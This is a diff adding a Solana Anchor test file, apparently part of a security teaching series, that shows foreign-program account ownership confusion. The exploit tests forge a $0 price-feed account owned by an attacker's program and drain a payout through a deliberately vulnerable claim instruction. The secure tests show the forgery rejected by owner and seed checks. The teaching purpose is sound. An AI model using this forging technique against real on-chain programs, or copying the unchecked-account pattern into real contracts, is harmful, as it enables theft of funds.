@@ -0,0 +1,186 @@
+import * as anchor from "@coral-xyz/anchor";
+import { Program } from "@coral-xyz/anchor";
+import { Keypair, LAMPORTS_PER_SOL, PublicKey, SystemProgram, Transaction } from "@solana/web3.js";
+import { expect } from "chai";
+import { expectError } from "../../../tests/utils";
+
+describe("50: Foreign-Program Account Ownership Confusion", () => {
+    const provider = anchor.AnchorProvider.env();
+    anchor.setProvider(provider);
+
+    const program = anchor.workspace.ForeignAccountOwnerConfusion as Program<any>;
+    const oracle = anchor.workspace.MockOracle as Program<any>;
+    const rawWriter = anchor.workspace.MockRawWriter as Program<any>;
+
+    let publisher: Keypair;
+    let alice: Keypair;
+    let attacker: Keypair;
+
+    const FEED_ID = 50;
+    const usd = (dollars: number) => dollars * 1_000_000;
+    const STRIKE = usd(50);
+    const PAYOUT = 2 * LAMPORTS_PER_SOL;
+
+    const deskPda = PublicKey.findProgramAddressSync([Buffer.from("desk")], program.programId)[0];
+
+    function feedPda(authority: PublicKey): PublicKey {
+        const buf = Buffer.alloc(8);
+        buf.writeBigUInt64LE(BigInt(FEED_ID));
+        return PublicKey.findProgramAddressSync([Buffer.from("feed"), authority.toBuffer(), buf], oracle.programId)[0];
+    }
+
+    function policyPda(holder: PublicKey): PublicKey {
+        return PublicKey.findProgramAddressSync([Buffer.from("policy"), holder.toBuffer()], program.programId)[0];
+    }
+
+    function buyPolicy(holder: Keypair) {
+        return program.methods
+            .buyPolicy(new anchor.BN(STRIKE), new anchor.BN(PAYOUT))
+            .accounts({
+                desk: deskPda,
+                policy: policyPda(holder.publicKey),
+                holder: holder.publicKey,
+                systemProgram: SystemProgram.programId,
+            })
+            .signers([holder])
+            .rpc();
+    }
+
+    function claim(method: "vulnerableClaim" | "secureClaim", holder: Keypair, feed: PublicKey) {
+        return program.methods[method]()
+            .accounts({ desk: deskPda, feed, policy: policyPda(holder.publicKey), holder: holder.publicKey })
+            .signers([holder])
+            .rpc();
+    }
+
+    /**
+     * Builds a byte-for-byte `PriceFeed` with a price of 0 in an account owned
+     * by the attacker's program.
+     */
+    async function forgeFeed(): Promise<PublicKey> {
+        const forged = Keypair.generate();
+        const data = await oracle.coder.accounts.encode("PriceFeed", {
+            feedId: new anchor.BN(FEED_ID),
+            authority: publisher.publicKey,
+            price: new anchor.BN(0),
+            publishTime: new anchor.BN(Math.floor(Date.now() / 1000)),
+            bump: 255,
+        });
+        const space = oracle.account.priceFeed.size;
+
+        const tx = new Transaction().add(
+            SystemProgram.createAccount({
+                fromPubkey: attacker.publicKey,
+                newAccountPubkey: forged.publicKey,
+                lamports: await provider.connection.getMinimumBalanceForRentExemption(space),
+                space,
+                programId: rawWriter.programId,
+            }),
+            await rawWriter.methods.write(0, data).accounts({ target: forged.publicKey }).instruction()
+        );
+        await provider.sendAndConfirm(tx, [attacker, forged]);
+        return forged.publicKey;
+    }
+
+    before(async () => {
+        publisher = Keypair.generate();
+        alice = Keypair.generate();
+        attacker = Keypair.generate();
+
+        for (const kp of [publisher, alice, attacker]) {
+            const sig = await provider.connection.requestAirdrop(kp.publicKey, 10 * LAMPORTS_PER_SOL);
+            await provider.connection.confirmTransaction(sig);
+        }
+    });
+
+    describe("Setup", () => {
+        it("Creates a desk settling against the publisher's $100 feed, funded with 5 SOL", async () => {
+            await oracle.methods
+                .initializeFeed(new anchor.BN(FEED_ID), new anchor.BN(usd(100)))
+                .accounts({ feed: feedPda(publisher.publicKey), authority: publisher.publicKey, systemProgram: SystemProgram.programId })
+                .signers([publisher])
+                .rpc();
+
+            await program.methods
+                .initializeDesk(publisher.publicKey, new anchor.BN(FEED_ID))
+                .accounts({ desk: deskPda, admin: publisher.publicKey, systemProgram: SystemProgram.programId })
+                .signers([publisher])
+                .rpc();
+
+            await program.methods
+                .fund(new anchor.BN(5 * LAMPORTS_PER_SOL))
+                .accounts({ desk: deskPda, funder: publisher.publicKey, systemProgram: SystemProgram.programId })
+                .signers([publisher])
+                .rpc();
+        });
+    });
+
+    describe("Exploit: a forged feed owned by the attacker's program", () => {
+        it("The attacker buys cover paying 2 SOL below $50", async () => {
+            await buyPolicy(attacker);
+        });
+
+        it("Claims against a fake PriceFeed reporting $0 while the real price is $100", async () => {
+            const forged = await forgeFeed();
+            const owner = (await provider.connection.getAccountInfo(forged))!.owner;
+            console.log(`  Forged feed owner: ${owner.toBase58()} (the attacker's program)`);
+
+            const deskBefore = await provider.connection.getBalance(deskPda);
+            await claim("vulnerableClaim", attacker, forged);
+
+            const paid = deskBefore - (await provider.connection.getBalance(deskPda));
+            console.log(`  Desk paid ${paid / LAMPORTS_PER_SOL} SOL on a price no oracle published`);
+            expect(paid).to.equal(PAYOUT);
+        });
+    });
+
+    describe("Secure: owner, discriminator and seeds::program", () => {
+        it("Rejects the forged feed: wrong owner", async () => {
+            await buyPolicy(attacker);
+            const forged = await forgeFeed();
+            await expectError(claim("secureClaim", attacker, forged), "AccountOwnedByWrongProgram");
+        });
+
+        it("Rejects a genuine oracle feed published by the attacker: wrong derivation", async () => {
+            await oracle.methods
+                .initializeFeed(new anchor.BN(FEED_ID), new anchor.BN(0))
+                .accounts({ feed: feedPda(attacker.publicKey), authority: attacker.publicKey, systemProgram: SystemProgram.programId })
+                .signers([attacker])
+                .rpc();
+
+            await expectError(claim("secureClaim", attacker, feedPda(attacker.publicKey)), "ConstraintSeeds");
+        });
+
+        it("Settles Alice's policy only when the configured feed drops below the strike", async () => {
+            await buyPolicy(alice);
+            await expectError(claim("secureClaim", alice, feedPda(publisher.publicKey)), "PriceAboveStrike");
+
+            await oracle.methods
+                .setPrice(new anchor.BN(usd(40)), null)
+                .accounts({ feed: feedPda(publisher.publicKey), authority: publisher.publicKey })
+                .signers([publisher])
+                .rpc();
+
+            const deskBefore = await provider.connection.getBalance(deskPda);
+            await claim("secureClaim", alice, feedPda(publisher.publicKey));
+            expect(deskBefore - (await provider.connection.getBalance(deskPda))).to.equal(PAYOUT);
+        });
+    });
+
+    describe("Security Comparison", () => {
+        it("Demonstrates the core difference", () => {
+            console.log("\n=== Foreign-Program Account Ownership Confusion ===\n");
+
+            console.log("VULNERABLE PATTERN:");
+            console.log("  UncheckedAccount + PriceFeed::try_deserialize  // discriminator only");
+            console.log("  Risk: any program can write the same bytes; any oracle feed is accepted\n");
+
+            console.log("SECURE PATTERN:");
+            console.log("  Account<PriceFeed> + seeds = [b\"feed\", publisher, feed_id], seeds::program = mock_oracle::ID");
+            console.log("  Protection: right owner, right type, and the one feed the desk was configured with\n");
+
+            console.log("KEY INSIGHT:");
+            console.log("  Bytes prove nothing about who wrote them. Check the owner, the type, and the address.");
+        });
+    });
+});